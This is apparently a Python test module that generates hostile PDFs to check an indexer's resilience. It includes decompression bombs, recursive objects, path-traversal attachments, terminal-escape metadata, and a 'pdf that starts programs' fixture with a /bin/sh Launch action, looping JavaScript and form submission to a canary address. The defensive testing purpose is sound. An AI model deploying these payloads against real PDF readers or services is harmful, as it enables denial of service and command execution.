"""Hostile PDFs."""

import io
import random
import zlib

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.index.hostile import canary
from tests.index.hostile.kinds import MIB, Kind, deflated

WORDS = b"BT /F1 12 Tf 72 700 Td (Some words stand here, and some more.) Tj ET\n"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
    b" /Resources << /Font << /F1 5 0 R >> /XObject << /X0 6 0 R >> >> >>"
)
STEERING = b"<< /Title <FEFF0041001B005D0030003B00780007202E00540000> /Author (\\033[31m) >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    said = len(data) if length is None else length
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (said, entries, data)


def pdf(changes: dict[int, bytes] | None = None, trailer: bytes = b"") -> bytes:
    """Return a PDF of one page with words, of which some objects are others."""
    objects = {1: CATALOG, 2: PAGES, 3: PAGE, 4: stream(WORDS), 5: FONT} | (changes or {})
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n")
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table))
    return out.getvalue()


def contents(data: bytes, entries: bytes = b"") -> bytes:
    return pdf({4: stream(data, entries)})


def packed(data: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data), b"/Filter /FlateDecode " + entries)


def bomb() -> bytes:
    return contents(deflated(b" " * MIB, 4096), b"/Filter /FlateDecode")


def bomb_of_words() -> bytes:
    return contents(deflated(WORDS * 10_000, 1000), b"/Filter /FlateDecode")


def bomb_in_bomb() -> bytes:
    inner = deflated(b" " * MIB, 20_000)
    return contents(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]")


def many_filters() -> bytes:
    data = WORDS
    for _ in range(200):
        data = zlib.compress(data)
    return contents(data, b"/Filter [%s]" % (b"/FlateDecode " * 200))


def other_filters() -> bytes:
    data = zlib.compress(b"\x81 " * 20 * MIB)
    return contents(data, b"/Filter [/FlateDecode /RunLengthDecode /RunLengthDecode /LZWDecode /ASCII85Decode]")


def object_stream_bomb() -> bytes:
    """The catalogue is in an object stream that unpacks to four gigabytes."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    bodies = {
        2: PAGES,
        3: PAGE,
        4: stream(WORDS),
        5: FONT,
        6: stream(
            deflated(b"1 0 %s" % CATALOG + b" " * MIB, 4096), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
        ),
    }
    for number, body in bodies.items():
        places.append((number, out.tell()))
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    rows = [b"\0" * 7, b"\2\0\0\0\6\0\0"]
    rows += [b"\1" + place.to_bytes(4, "big") + b"\0\0" for _, place in places]
    rows.append(b"\1" + start.to_bytes(4, "big") + b"\0\0")
    table = b"".join(rows)
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % len(rows)
    out.write(b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(table, entries), start))
    return out.getvalue()


def form(calls: bytes, resources: bytes) -> bytes:
    return stream(
        calls, b"/Type /XObject /Subtype /Form /BBox [0 0 600 700] /Resources << /XObject << %s >> >>" % resources
    )


def form_of_itself() -> bytes:
    return pdf({4: stream(WORDS + b"/X0 Do\n"), 6: form(WORDS + b"/X0 Do\n", b"/X0 6 0 R")})


def forms_that_double() -> bytes:
    changes = {4: stream(WORDS + b"/X0 Do\n")}
    for number in range(6, 46):
        changes[number] = form(b"/X0 Do /X0 Do\n", b"/X0 %d 0 R" % (number + 1))
    changes[46] = form(WORDS, b"")
    return pdf(changes)


def deep_page_tree() -> bytes:
    changes = {1: b"<< /Type /Catalog /Pages 10 0 R >>"}
    for number in range(10, 100_010):
        changes[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1)
    changes[100_010] = PAGES
    return pdf(changes)


def deep(opening: bytes, closing: bytes) -> bytes:
    return pdf({3: PAGE[:-2] + b"/X " + opening * 1_000_000 + closing * 1_000_000 + b">>"})


def picture(width: int, height: int) -> bytes:
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace /DeviceRGB" % (
        width,
        height,
    )
    data = deflated(bytes(MIB), 20)
    return pdf({4: stream(b"600 0 0 700 0 0 cm /X0 Do\n"), 6: stream(data, entries + b" /Filter /FlateDecode")})


def tiling() -> bytes:
    pattern = stream(
        b"0 0 1 1 re f\n",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.000001 /YStep 0.000001"
        b" /Resources << >>",
    )
    page = PAGE.replace(b"/Font", b"/Pattern << /P1 6 0 R >> /Font")
    return pdf({3: page, 4: stream(b"/Pattern cs /P1 scn 0 0 600 700 re f\n" + WORDS), 6: pattern})


def font(entries: bytes, others: dict[int, bytes]) -> bytes:
    return pdf({5: b"<< /Type /Font /BaseFont /Odd /FirstChar 0 /LastChar 255 %s >>" % entries} | others)


def noise(length: int) -> bytes:
    return random.Random(7).randbytes(length)


def broken_font() -> bytes:
    description = b"<< /Type /FontDescriptor /FontName /Odd /Flags 4 /FontBBox [0 0 -1 99999999999] /FontFile2 8 0 R >>"
    file = b"\0\1\0\0\0\x40" + noise(100_000)
    return font(b"/Subtype /TrueType /FontDescriptor 7 0 R", {7: description, 8: stream(file, b"/Length1 99999999")})


def font_that_draws_itself() -> bytes:
    procedure = stream(b"1000 0 0 0 750 750 d1 BT /F1 12 Tf (aaaaaaaa) Tj ET\n")
    entries = (
        b"/Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a 7 0 R >>"
        b" /Encoding << /Differences [97 /a] >> /Widths [%s] /Resources << /Font << /F1 5 0 R >> >>" % (b"1000 " * 256)
    )
    return font(entries, {7: procedure})


def characters_that_mean_much() -> bytes:
    lines = b"".join(b"<%02x> <%s>\n" % (code, b"0041" * 5000) for code in range(256))
    table = (
        b"/CMapName /X def 1 begincodespacerange <00> <ff> endcodespacerange\n256 beginbfchar\n%s endbfchar\n" % lines
    )
    text = b"BT /F1 1 Tf (%s) Tj ET\n" % (b"abcdefgh" * 20_000)
    return font(b"/Subtype /Type1 /ToUnicode 7 0 R", {7: packed(table), 4: packed(text)})


def labels_in_a_loop() -> bytes:
    return pdf(
        {1: CATALOG[:-2] + b"/PageLabels 7 0 R /Outlines 8 0 R /Names 7 0 R >>"}
        | {7: b"<< /Kids [7 0 R 7 0 R] /Limits [0 0] >>", 8: b"<< /First 8 0 R /Last 8 0 R /Next 8 0 R /Count 9 >>"}
    )


def actions() -> bytes:
    here = canary.address().encode()
    return pdf(
        {
            1: CATALOG[:-2]
            + b"/OpenAction 7 0 R /AA << /WC 8 0 R >> /Names << /JavaScript << /Names [(x) 8 0 R] >> >> >>",
            3: PAGE[:-2]
            + b"/AA << /O 9 0 R >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 10 0 R >>] >>",
            7: b"<< /S /Launch /F (/bin/sh) /Unix << /F (touch /tmp/verse-escaped) >> >>",
            8: b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); while\\(1\\);) >>" % here,
            9: b"<< /S /URI /URI (%s) >>" % here,
            10: b"<< /S /SubmitForm /F (%s) >>" % here,
        }
    )


def embedded() -> bytes:
    file = stream(deflated(bytes(MIB), 200), b"/Type /EmbeddedFile /Filter /FlateDecode")
    entry = b"<< /Type /Filespec /F (../../x) /EF << /F 7 0 R >> >>"
    names = b"/Names << /EmbeddedFiles << /Names [(../../x.exe) %s] >> >>" % entry
    return pdf({1: CATALOG[:-2] + names + b">>", 7: file})


def locked() -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("secret", strength=128), invariant=True)
    canvas.drawString(72, 700, "Some words stand here.")
    canvas.save()
    return out.getvalue()


def cut(share: int) -> bytes:
    content = pdf({6: packed(noise(2000))})
    return content[: len(content) * share // 10]


def xref_loop() -> bytes:
    content = pdf()
    place = content.rindex(b"xref\n0")
    return content.replace(b"/Root", b"/Prev %d /XRefStm %d /Root" % (place, place))


def pages_of_nothing() -> bytes:
    return pdf({2: b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % (b"3 0 R " * 1_000_000), 4: stream(b"")})


def pages_of_the_same() -> bytes:
    return pdf({2: b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % (b"3 0 R " * 1_000_000)})


def box(values: bytes) -> bytes:
    return pdf({3: PAGE.replace(b"0 0 612 792", values)})


PDFS = [
    Kind("pdf bomb of spaces", "a.pdf", bomb, slow=True),
    Kind("pdf bomb of words", "a.pdf", bomb_of_words, refused=True, slow=True),
    Kind("pdf bomb in a bomb", "a.pdf", bomb_in_bomb, slow=True),
    Kind("pdf of 200 filters", "a.pdf", many_filters),
    Kind("pdf of other filters", "a.pdf", other_filters),
    Kind("pdf bomb in an object stream", "a.pdf", object_stream_bomb, slow=True),
    Kind("pdf of a billion pages", "a.pdf", lambda: pdf({2: PAGES.replace(b"Count 1", b"Count 1000000000")})),
    Kind("pdf of minus five pages", "a.pdf", lambda: pdf({2: PAGES.replace(b"Count 1", b"Count -5")})),
    Kind("pdf page tree in a loop", "a.pdf", lambda: pdf({2: PAGES.replace(b"[3 0 R]", b"[2 0 R 2 0 R 3 0 R]")})),
    Kind("pdf page tree of 100,000 floors", "a.pdf", deep_page_tree, slow=True),
    Kind("pdf form that holds itself", "a.pdf", form_of_itself),
    Kind("pdf forms that double", "a.pdf", forms_that_double, slow=True),
    Kind("pdf cross references in a loop", "a.pdf", xref_loop),
    *(Kind(f"pdf cut after {share} tenths", "a.pdf", lambda share=share: cut(share)) for share in range(10)),  # type: ignore[misc]
    Kind("pdf page of a billion points", "a.pdf", lambda: box(b"0 0 1e9 1000000000")),
    Kind("pdf page of nothing wide", "a.pdf", lambda: box(b"0 0 0 0")),
    Kind("pdf page of odd numbers", "a.pdf", lambda: box(b"-99999999999999 nan 1e400 (x)")),
    Kind(
        "pdf of a million text objects",
        "a.pdf",
        lambda: pdf({4: packed(b"BT /F1 1 Tf (a) Tj ET\n" * 1_000_000)}),
        slow=True,
    ),
    Kind(
        "pdf of one string of 50 MB",
        "a.pdf",
        lambda: pdf({4: packed(b"BT /F1 1 Tf (%s) Tj ET" % (b"a" * 50_000_000))}),
        slow=True,
    ),
    Kind("pdf of a million pages of nothing", "a.pdf", pages_of_nothing, refused=True, slow=True),
    Kind("pdf of a million pages of the same", "a.pdf", pages_of_the_same, slow=True),
    Kind("pdf locked with a password", "a.pdf", locked, refused=True),
    Kind("pdf of unknown encryption", "a.pdf", lambda: pdf(trailer=b"/Encrypt << /Filter /Odd /V 99 >>"), refused=True),
    Kind("pdf that starts programs", "a.pdf", actions),
    Kind("pdf of a broken font", "a.pdf", broken_font),
    Kind("pdf of a font that draws itself", "a.pdf", font_that_draws_itself),
    Kind("pdf of characters that mean 5,000 each", "a.pdf", characters_that_mean_much, slow=True),
    Kind("pdf of a million arrays in each other", "a.pdf", lambda: deep(b"[", b"]"), slow=True),
    Kind("pdf of a million dictionaries in each other", "a.pdf", lambda: deep(b"<</A ", b">>")),
    Kind("pdf of absurd lengths", "a.pdf", lambda: pdf({4: stream(WORDS, length=10**18), 6: stream(b"x", length=-7)})),
    Kind("pdf of negative sizes", "a.pdf", lambda: picture(-5, -5)),
    Kind("pdf of a huge picture", "a.pdf", lambda: picture(60_000, 60_000), slow=True),
    Kind("pdf of endless tiles", "a.pdf", tiling, slow=True),
    Kind("pdf of a title that steers the terminal", "a.pdf", lambda: pdf({6: STEERING}, b"/Info 6 0 R")),
    Kind("pdf of labels in a loop", "a.pdf", labels_in_a_loop, slow=True),
    Kind("pdf of embedded files", "a.pdf", embedded),
    Kind("pdf of a header only", "a.pdf", lambda: b"%PDF-1.7\n", refused=True),
    Kind("pdf of nothing", "a.pdf", lambda: b"", refused=True),
    Kind("pdf of noise", "a.pdf", lambda: b"%PDF-1.7\n" + noise(200_000), refused=True),
]
